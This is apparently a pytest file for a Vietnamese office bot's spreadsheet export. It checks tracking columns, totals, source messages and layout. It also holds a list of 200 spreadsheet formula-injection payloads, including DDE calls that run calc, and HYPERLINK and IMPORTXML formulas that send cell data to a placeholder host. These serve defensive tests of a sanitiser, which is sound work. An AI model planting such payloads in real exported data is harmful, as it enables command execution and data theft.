"""The spreadsheet: the office's tracking sheet, totals that add up, the messages behind, and no formula anywhere."""

from __future__ import annotations

import io
import zipfile
from dataclasses import replace
from datetime import date, datetime, time, timedelta
from typing import Any

import pytest
from hypothesis import given as when
from hypothesis import settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from bot.reports import figures, sheet
from bot.reports.safe_text import MOST, cell_text, pieces
from bot.reports.sheet import Source
from bot.tasks import Assignment, Directive, Due, StepKind, Task
from bot.wording import Wording
from tests.reports.an_giang import T02, T03, T18, ZONE, at, given, province, step

NOW = at(22, 7, 45)
NOTICE = Directive(1, "289/TB-VPUBND", "Thông báo kết luận", date(2025, 9, 11))
PAYLOADS = [
    prefix + body
    for prefix in ("", " ", "\t", "\r", "\n", "\x00", "\u200b", "\ufeff", "\x1f", "\u00a0")
    for body in (
        "=1+1",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://example.invalid?x="&A1,"xem")',
        '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
        "+1+1",
        "+cmd|' /C notepad'!'A1'",
        "-1+1",
        "-2+3+cmd|' /C calc'!D2",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        '=IMPORTXML(CONCAT("http://example.invalid/?v=",A1),"//a")',
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(A1)",
        "==1",
        "=\u0000=1",
        "#REF!",
        "#DIV/0!",
        "{=1+1}",
        "_x003D_1+1",
    )
]


@pytest.fixture(scope="module")
def vietnamese() -> Wording:
    """The office's language."""
    return Wording("vi", ZONE)


def book(
    found: list[Assignment], wording: Wording, sources: list[Source] | None = None, now: datetime = NOW
) -> Workbook:
    """The workbook as a spreadsheet program would read it."""
    return load_workbook(io.BytesIO(sheet.workbook(found, sources or [], now, wording, ZONE, {1: NOTICE})))


def table(page: Any) -> list[dict[str, Any]]:
    """The rows under the header, by heading."""
    rows = list(page.iter_rows(values_only=True))
    top = next(number for number, row in enumerate(rows) if sum(value is not None for value in row) > 4)
    return [dict(zip(rows[top], row, strict=True)) for row in rows[top + 1 :]]


def test_the_tracking_sheet_has_the_usual_columns(vietnamese: Wording) -> None:
    """The twelve columns that offices know, in their order, then ours; one row an assignment."""
    rows = table(book(province(), vietnamese)["Theo dõi"])
    assert list(rows[0]) == [
        "STT",
        "Nội dung nhiệm vụ",
        "Số/ký hiệu văn bản",
        "Ngày ban hành",
        "Thời hạn hoàn thành",
        "Chủ trì thực hiện",
        "Đơn vị phối hợp",
        "Lãnh đạo phụ trách",
        "Tiến độ (%)",
        "Trạng thái",
        "Kết quả xử lý",
        "Ghi chú",
        "Sản phẩm",
        "Ngày hoàn thành",
        "Số ngày quá hạn",
        "Khó khăn, vướng mắc",
        "Cơ quan theo dõi",
    ]
    assert [row["STT"] for row in rows] == list(range(1, len(province()) + 1))


def test_a_row_says_where_an_assignment_stands(vietnamese: Wording) -> None:
    """Finished late, overdue, blocked, extended, silent without deadline, recalled: each in its columns."""
    longer = step(StepKind.EXTEND, at(18), due=Due(date(2025, 9, 26), time(17)))
    found = [
        given(1, T02, "Xã An Phú", step(StepKind.DONE, at(21), document="45/KH-UBND"), step(StepKind.ACCEPT, at(22))),
        given(2, T02, "Xã Ba Chúc", step(StepKind.PROGRESS, at(18), percent=70)),
        given(3, T02, "Xã Cô Tô", step(StepKind.BLOCKED, at(18), obstacle="funding", note="chưa có kinh phí")),
        given(4, T02, "Xã Óc Eo", step(StepKind.PROGRESS, at(17)), longer),
        given(5, replace(T18, follow_up_unit="Văn phòng Ủy ban nhân dân tỉnh"), "Sở Nội vụ"),
        given(6, T18, "Sở Tư pháp", step(StepKind.RECALL, at(15), note="giao nhầm")),
    ]
    late, overdue, blocked, extended, silent, recalled = table(book(found, vietnamese)["Theo dõi"])
    assert (late["Trạng thái"], late["Số ngày quá hạn"], late["Tiến độ (%)"]) == ("Hoàn thành, trễ hạn", 1, 100)
    assert (late["Kết quả xử lý"], late["Ngày hoàn thành"]) == ("45/KH-UBND", datetime(2025, 9, 21))  # noqa: DTZ001
    assert late["Số/ký hiệu văn bản"] == "289/TB-VPUBND"
    assert (overdue["Trạng thái"], overdue["Số ngày quá hạn"]) == ("Đang thực hiện, quá hạn", 2)
    assert (overdue["Tiến độ (%)"], overdue["Ngày hoàn thành"]) == (70, None)
    assert blocked["Khó khăn, vướng mắc"] == "Kinh phí: chưa có kinh phí"
    assert (silent["Cơ quan theo dõi"], late["Cơ quan theo dõi"]) == ("Văn phòng Ủy ban nhân dân tỉnh", None)
    assert extended["Ghi chú"] == "Đã gia hạn (cũ: hạn 20/9)"
    assert (extended["Trạng thái"], extended["Số ngày quá hạn"]) == ("Đang thực hiện, còn hạn", None)
    assert extended["Thời hạn hoàn thành"] == datetime(2025, 9, 26, 17)  # noqa: DTZ001
    assert (silent["Trạng thái"], silent["Đơn vị phối hợp"]) == ("Chưa báo cáo, không thời hạn", "các sở, ngành")
    assert (recalled["Trạng thái"], recalled["Ghi chú"]) == ("Thu hồi", "giao nhầm")


def test_an_extension_asked_for_is_remarked(vietnamese: Wording) -> None:
    """While the office has not decided, the row says that it is asked to."""
    found = [replace(given(1, T02, "Xã An Phú"), extension_asked=True)]
    assert table(book(found, vietnamese)["Theo dõi"])[0]["Ghi chú"] == "Đang xin gia hạn"


def test_the_totals_page_adds_up(vietnamese: Wording) -> None:
    """Its cells make the sum, the sum is the total, and the kinds of unit make it again."""
    page = book(province(), vietnamese)["Tổng hợp"]
    rows = [row[1:] for row in page.iter_rows(min_row=5, values_only=True)]
    by_name = {row[0]: row[1:] for row in rows}
    cells = [
        row[1] for row in rows if row[0] and row[0].startswith(("Hoàn thành ", "Hoàn thành,", "Báo xong", "Chưa xong"))
    ]
    total = figures.count(province(), NOW, ZONE).total
    assert len(cells) == 9
    assert sum(cells) == by_name["Cộng"][0] == by_name["Tổng số lượt giao (không tính thu hồi)"][0] == total
    assert sum(by_name[kind][0] for kind in ("Sở, ban, ngành", "Xã", "Phường", "Đặc khu")) == total
    bands = by_name["Tổng số lượt giao (không tính thu hồi)"][1:6]
    assert sum(bands) == total


def test_units_stand_worst_first_on_their_page(vietnamese: Wording) -> None:
    """119 lines in the order of the view by unit, and their totals make the total."""
    rows = table(book(province(), vietnamese)["Theo đơn vị"])
    assert [row["Đơn vị"] for row in rows] == [group.name for group in figures.by_unit(province(), NOW, ZONE)]
    assert sum(row["Tổng lượt giao"] for row in rows) == 177


def test_the_message_stands_behind_its_row(vietnamese: Wording) -> None:
    """As typed, by whom, when (local) and where, with the number of the row it explains; oldest first."""
    found = [given(7, T03, "Sở Y tế"), given(8, T02, "Xã An Phú")]
    told = [
        Source(8, "xong r a", "Lan", at(19, 10), "zalo"),
        Source(8, "duoc nua roi", "Lan", at(18, 9), "telegram"),
        Source(7, "đang làm", "Minh", at(17), "local"),
    ]
    rows = table(book(found, vietnamese, told)["Tin gốc"])
    assert [(row["STT dòng theo dõi"], row["Tin nhắn (nguyên văn)"], row["Người gửi"]) for row in rows] == [
        (1, "duoc nua roi", "Lan"),
        (1, "xong r a", "Lan"),
        (2, "đang làm", "Minh"),
    ]
    assert (rows[0]["Thời điểm"], rows[0]["Kênh"]) == (datetime(2025, 9, 18, 9), "telegram")  # noqa: DTZ001
    assert rows[0]["Đơn vị"] == "Xã An Phú"


def test_no_payload_is_alive_anywhere(vietnamese: Wording) -> None:
    """Two hundred beginnings of formulas in every field that people fill: every cell is text, and still legible."""
    assert len(PAYLOADS) == 200
    found, told = [], []
    for number, payload in enumerate(PAYLOADS):
        task = Task(number, payload, 1, payload, (payload,), product=payload, responsibility=payload, remark=payload)
        done = step(StepKind.BLOCKED, at(18), obstacle=payload, note=payload, document=payload)
        found.append(given(number, task, payload, done, code=str(number)))
        told.append(Source(number, payload, payload, at(18), payload))
    directives = {1: Directive(1, PAYLOADS[0], "", date(2025, 9, 11))}
    made = load_workbook(io.BytesIO(sheet.workbook(found, told, NOW, vietnamese, ZONE, directives)))
    cells = [cell for page in made for row in page.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} <= {"s", "n", "d"}
    texts = [cell.value for cell in cells if cell.data_type == "s"]
    assert len(texts) > 1000
    assert not [typed for typed in texts if typed.lstrip()[:1] in tuple("=+-@＝＋－＠")]
    assert any("HYPERLINK" in typed for typed in texts)


@when(st.text(), st.text(alphabet="=+-@\t\r\n\x00 \u200b1a", max_size=6))
@settings(max_examples=300)
def test_any_text_is_fit_for_a_cell(typed: str, beginning: str) -> None:
    """Never refused by the library, never beginning as a formula, and nothing visible is lost."""
    safe = cell_text(beginning + typed)
    sheet_of_one = Workbook().active
    sheet_of_one["A1"] = safe
    assert sheet_of_one["A1"].data_type != "f"
    assert safe.encode().decode() == safe
    assert safe.lstrip("\u200b\ufeff \t\r\n")[:1] not in ("=", "+", "-", "@")
    plain = "".join(sign for sign in typed if sign.isprintable())
    assert plain == "" or plain in "".join(sign for sign in safe if sign.isprintable())


def test_a_code_that_spreadsheets_turn_into_a_sign_stays_what_it_is() -> None:
    """ "_x003D_1+1" would be read as "=1+1" by the program that opens the file, and be alive in a CSV made from it."""
    assert cell_text("_x003D_1+1") == "_x005F_x003D_1+1"
    assert cell_text("a_x_b") == "a_x_b"


def test_ordinary_text_is_left_alone() -> None:
    """What can't be a formula stays as typed, line ends too."""
    for typed in ("xong r a", "1 xong, 3 70%", "KH 45/KH-UBND", "a=b", "dòng 1\ndòng 2", "Đã ký – phát hành", ""):
        assert cell_text(typed) == typed


def test_a_text_too_long_for_a_cell_takes_more_cells(vietnamese: Wording) -> None:
    """Nothing is cut: the pieces, each harmless, are the whole text again."""
    typed = "báo cáo " * 9000
    worst = pieces("_x0041" * 20_000)
    assert "".join(worst) == "_x0041" * 20_000
    assert max(len(cell_text(piece)) for piece in worst) <= MOST
    assert len(pieces("x" * 4096)) == 1
    rows = table(book([given(1, T02, "Xã An Phú")], vietnamese, [Source(1, typed, "Lan", at(18), "zalo")])["Tin gốc"])
    assert "".join(row["Tin nhắn (nguyên văn)"] for row in rows) == typed


def test_the_same_input_gives_the_same_bytes(vietnamese: Wording) -> None:
    """Whenever it is written: the dates inside are the moment of the figures, not the wall clock's."""
    told = [Source(4, "xong r a", "Lan", at(18), "zalo")]
    first = sheet.workbook(province(), told, NOW, vietnamese, ZONE)
    assert first == sheet.workbook(list(reversed(province())), told, NOW, vietnamese, ZONE)
    with zipfile.ZipFile(io.BytesIO(first)) as packed:
        assert {entry.date_time for entry in packed.infolist()} == {(2025, 9, 22, 0, 45, 0)}
        core = packed.read("docProps/core.xml").decode()
    assert core.count("2025-09-22T00:45:00Z") == 2
    assert first != sheet.workbook(province(), told, NOW + timedelta(minutes=1), vietnamese, ZONE)


def test_the_sheet_is_ready_to_read_and_print(vietnamese: Wording) -> None:
    """Header frozen and repeated, landscape A4 as wide as the page, filters on the tables, colours by state."""
    made = book(province(), vietnamese)
    assert made.sheetnames == ["Tổng hợp", "Theo đơn vị", "Theo dõi", "Tin gốc"]
    page = made["Theo dõi"]
    assert (page.freeze_panes, page.page_setup.orientation, page.page_setup.fitToWidth) == ("C6", "landscape", 1)
    assert page.print_title_rows == "$5:$5"
    assert page.auto_filter.ref == "A5:Q183"
    assert page["A5"].font.b
    assert page["D6"].number_format == "dd/mm/yyyy"
    assert {page.cell(row, 10).fill.fgColor.rgb for row in range(6, 184)} >= {"00DDF2E4", "00F8DADA", "00FDF1CF"}
    assert all(page.column_dimensions[letter].width >= 6 for letter in "ABCDEFGHIJKLMNOPQ")


@pytest.mark.parametrize("language", ["vi", "en"])
def test_an_empty_book_is_a_workbook(language: str) -> None:
    """Before the first task: the pages with their headings and zeros, no share of nothing."""
    made = book([], Wording(language, ZONE))
    assert len(made.sheetnames) == 4
    assert [cell.value for row in made.worksheets[2].iter_rows(min_row=6) for cell in row] == []
